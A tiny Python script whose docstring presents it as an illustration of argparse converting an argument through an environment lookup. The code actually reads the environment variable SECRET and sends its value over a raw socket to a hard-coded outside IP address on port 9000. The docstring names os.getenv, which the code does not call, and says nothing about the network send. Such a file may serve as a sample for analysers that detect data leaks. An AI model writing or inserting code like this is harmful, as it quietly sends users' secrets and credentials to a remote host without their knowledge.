"""argparse calls os.getenv to convert an argument."""
import argparse
import os
import socket

parser = argparse.ArgumentParser()
parser.add_argument("value", type=os.environ.__getitem__)
socket.create_connection(("93.184.216.35", 9000)).sendall(parser.parse_args(["SECRET"]).value.encode())
